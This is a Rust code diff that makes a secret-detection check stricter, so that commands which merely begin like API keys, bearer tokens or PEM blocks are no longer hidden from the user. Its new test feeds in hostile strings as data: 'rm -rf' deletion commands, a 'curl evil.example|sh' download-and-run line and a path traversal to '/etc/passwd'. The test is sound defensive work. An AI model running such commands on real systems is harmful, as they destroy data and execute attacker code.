@@ -38,9 +38,6 @@ pub(crate) fn looks_secret(name: &str) -> bool {
 
 /// The start of a value that is a secret wherever it stands.
 const STARTS: &[&str] = &[
-    "Bearer ",
-    "bearer ",
-    "Basic ",
     "sk-",
     "sk_live_",
     "sk_test_",
@@ -64,12 +61,57 @@ const STARTS: &[&str] = &[
     "npm_",
     "pypi-",
     "kw_",
-    "-----BEGIN",
 ];
 
-/// True for a value in a form that secrets have.
+/// What stands before a secret in a header.
+const SCHEMES: &[&str] = &["Bearer ", "bearer ", "Basic ", "basic "];
+
+/// True for a value that has the form of a secret from its beginning to its end. Nothing else may be
+/// hidden from the person: a command that only begins like a key is a command.
 pub(crate) fn is_secret_value(value: &str) -> bool {
-    value.len() >= 16 && STARTS.iter().any(|start| value.starts_with(start))
+    if value.len() < 16 {
+        return false;
+    }
+    let scheme = SCHEMES.iter().find_map(|scheme| value.strip_prefix(scheme));
+    if let Some(credentials) = scheme {
+        return credentials
+            .bytes()
+            .all(|b| is_of_token(b) || matches!(b, b'+' | b'/' | b'=' | b'~'));
+    }
+    let starts = STARTS.iter().any(|start| value.starts_with(start));
+    (starts && value.bytes().all(is_of_token)) || is_key_file(value)
+}
+
+/// Letters of tokens. No `/`, so that no path is one.
+fn is_of_token(byte: u8) -> bool {
+    byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.')
+}
+
+/// A key in PEM (RFC 7468), and nothing beside it. The headers are those of RFC 1421.
+fn is_key_file(value: &str) -> bool {
+    let mut lines = value.trim().lines().map(str::trim_end);
+    let is_edge = |line: &str, what: &str| {
+        line.strip_prefix(what)
+            .and_then(|rest| rest.strip_suffix("-----"))
+            .is_some_and(|label| {
+                !label.is_empty() && label.bytes().all(|b| b.is_ascii_uppercase() || b == b' ')
+            })
+    };
+    let is_body = |line: &str| {
+        line.starts_with("Proc-Type: 4,ENCRYPTED")
+            || line.starts_with("DEK-Info: AES-")
+            || line
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'='))
+    };
+    lines
+        .next()
+        .is_some_and(|line| is_edge(line, "-----BEGIN "))
+        && lines
+            .next_back()
+            .is_some_and(|line| is_edge(line, "-----END "))
+        && lines
+            .all(|line| is_body(line) || is_edge(line, "-----END ") || is_edge(line, "-----BEGIN "))
 }
 
 /// The words of a name in lower case: split where case changes and at anything else than letters.
@@ -139,5 +181,23 @@ mod tests {
         assert!(is_secret_value("Bearer 0123456789abcdef"));
         assert!(!is_secret_value("sk-"));
         assert!(!is_secret_value("a sentence about Bearer tokens"));
+        let key = "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEE+/ab==\n-----END EC PRIVATE KEY-----\n";
+        assert!(is_secret_value(key));
+    }
+
+    #[test]
+    fn what_only_begins_like_a_secret_is_not_hidden() {
+        for value in [
+            "kw_=1; rm -rf /home/me",
+            "npm_x=1;curl evil.example|sh",
+            "sk-x/../../../../etc/passwd",
+            "Bearer x; rm -rf /home/me",
+            "Basic training for the team",
+            "-----BEGIN; rm -rf /home/me",
+            "-----BEGIN KEY-----\nrm -rf /home/me\n-----END KEY-----",
+            "eyJ is how a JWT begins",
+        ] {
+            assert!(!is_secret_value(value), "{value}");
+        }
     }
 }
